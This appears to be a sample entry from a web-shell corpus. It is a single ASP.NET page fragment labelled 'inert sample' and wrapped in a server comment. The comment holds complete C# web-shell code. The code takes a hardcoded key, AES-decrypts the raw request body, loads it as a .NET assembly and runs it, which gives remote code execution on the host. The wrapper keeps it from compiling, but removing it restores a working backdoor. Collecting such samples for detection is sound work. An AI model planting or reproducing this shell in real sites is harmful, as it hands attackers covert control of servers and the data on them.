<%-- hegui corpus: inert sample - an ASP.NET server comment is never compiled
<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","9225e25e5da47ddb"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>
--%>
